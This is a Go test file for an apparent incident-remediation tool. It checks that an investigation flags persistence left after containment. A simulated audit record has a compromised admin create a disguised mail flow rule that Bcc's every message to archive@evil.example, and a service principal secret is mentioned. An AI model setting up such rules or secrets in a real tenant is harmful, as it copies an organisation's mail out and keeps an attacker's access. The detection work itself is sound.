package remediation_test

import (
	"strings"
	"testing"
	"time"

	"github.com/tourniquet/tourniquet/internal/remediation"
	"github.com/tourniquet/tourniquet/internal/tenantsim"
)

// A secret the attacker added, as the compromised admin, to an application's service
// principal (the demo story), and a mail flow rule copying the organisation's mail out,
// survive every containment step: the investigation names them for a person, through the
// real clients and the simulator's audit logs; a role granted to the account by another admin
// is not named.
func TestInvestigationNamesAWayInLeftElsewhereInTheTenant(t *testing.T) {
	t.Parallel()
	e := newEnv(t, remediation.Config{})
	// The demo story has the attacker, as the user, add a secret to Mail Sync Pro's service
	// principal. Another admin granting the user a role is not the user's doing.
	e.sim.AddDirectoryAudit(tenantsim.DirectoryAudit{Time: time.Now().Add(-80 * time.Minute), Activity: "Add member to role",
		Category: "RoleManagement", Service: "Core Directory", InitiatorID: e.demo.GlobalAdminID, InitiatorUPN: e.demo.GlobalAdminUPN,
		TargetID: e.demo.UserID, TargetName: e.demo.UPN, TargetType: "User"})
	// A mail flow rule the compromised Exchange administrator made, Bcc-ing every message out.
	e.sim.AddAuditRecord(tenantsim.AuditRecord{UserID: e.demo.UPN, Time: time.Now().Add(-70 * time.Minute), Operation: "New-TransportRule",
		ClientIP: "198.51.100.23:50123", Parameters: [][2]string{{"Name", "Compliance copy"}, {"BlindCopyTo", "archive@evil.example"}}})
	run := e.start(remediation.StartRequest{User: e.demo.UPN, Mode: "sync", Reason: "INC-persist", Steps: []string{"investigate"}})
	st, _ := findingsOf(t, e.get(run.RunID))
	var named []string
	for _, s := range st.Findings.Signals {
		if strings.HasPrefix(s, "possible persistence: ") {
			named = append(named, s)
		}
	}
	if len(named) != 2 || !strings.Contains(named[0], "Add service principal credentials") || !strings.Contains(named[0], "undo it by hand") ||
		!strings.Contains(named[1], `mail flow rule created: "Compliance copy"`) || !strings.Contains(named[1], "BlindCopyTo archive@evil.example") {
		t.Fatalf("persistence signals %q (all signals %q)", named, st.Findings.Signals)
	}
}
